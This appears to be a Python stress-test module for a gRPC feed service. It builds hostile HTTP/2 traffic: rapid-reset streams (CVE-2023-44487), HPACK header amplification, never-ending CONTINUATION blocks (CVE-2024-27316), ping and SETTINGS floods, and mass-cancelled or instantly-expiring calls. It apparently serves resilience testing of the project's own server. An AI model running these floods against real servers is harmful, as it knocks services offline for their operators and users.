"""Frames that cost the other side more than their sender: given up, repeated, indexed, without an end."""

import asyncio
import itertools
import struct

import grpc
from chuanyu.exchange.v1 import feed_service_pb2

from hub.bench.hostile.scene import FEED, GET_FEED, Scene
from hub.bench.hostile.wire import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Wire,
    call_headers,
    frame,
    literal,
)

CONNECTIONS = 8
_REQUEST = feed_service_pb2.GetFeedRequest(feed=FEED).SerializeToString()


async def rapid_reset(scene: Scene) -> None:
    """Calls that are given up in the same breath (CVE-2023-44487)."""
    headers, streams = call_headers(GET_FEED), itertools.count(1, 2)

    async def turn(wire: Wire) -> bool:
        some = itertools.islice(streams, 500)
        return await wire.send(b"".join(frame(HEADERS, END_HEADERS, one, headers) + frame(RST_STREAM, 0, one, CANCEL) for one in some))

    await scene.on_wires(CONNECTIONS, turn)


async def cancelled_calls(scene: Scene) -> None:
    """Calls of a real client that are given up a little later."""

    async def call(channel: grpc.aio.Channel, _: int) -> object:
        begun = channel.unary_unary(f"/{GET_FEED}")(_REQUEST)
        await asyncio.sleep(0.001)
        return begun.cancel()

    await scene.calling(64, CONNECTIONS, call)


async def short_deadlines(scene: Scene) -> None:
    """Calls whose deadline is over before an answer can come."""

    async def call(channel: grpc.aio.Channel, _: int) -> object:
        return await channel.unary_unary(f"/{GET_FEED}")(_REQUEST, timeout=0.001)

    await scene.calling(64, CONNECTIONS, call)


async def indexed_headers(scene: Scene) -> None:
    """A header of four kilobytes named by one byte three thousand times (HPACK)."""
    remembered = literal(b"x-filling", b"f" * 3_900, indexed=True)
    streams = itertools.count(1, 2)

    async def turn(wire: Wire) -> bool:
        first = frame(HEADERS, END_HEADERS, next(streams), call_headers(GET_FEED, remembered))
        again = call_headers(GET_FEED) + b"\xbe" * 3_000
        return await wire.send(first + b"".join(frame(HEADERS, END_HEADERS, next(streams), again) for _ in range(20)))

    await scene.on_wires(CONNECTIONS, turn)


async def continuations(scene: Scene) -> None:
    """A header block that never ends (CVE-2024-27316)."""
    piece = frame(CONTINUATION, 0, 1, literal(b"x-filling", b"f" * 1_000) * 16)

    async def turn(wire: Wire) -> bool:
        return await wire.send(frame(HEADERS, 0, 1, call_headers(GET_FEED)) + piece * 64) and False

    await scene.on_wires(CONNECTIONS, turn)


async def pings(scene: Scene) -> None:
    """Pings without a pause."""
    sent = frame(PING, 0, 0, bytes(8)) * 1_000

    async def turn(wire: Wire) -> bool:
        return await wire.send(sent)

    await scene.on_wires(CONNECTIONS, turn)


async def settings(scene: Scene) -> None:
    """Settings without a pause."""
    sent = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500

    async def turn(wire: Wire) -> bool:
        return await wire.send(sent)

    await scene.on_wires(CONNECTIONS, turn)
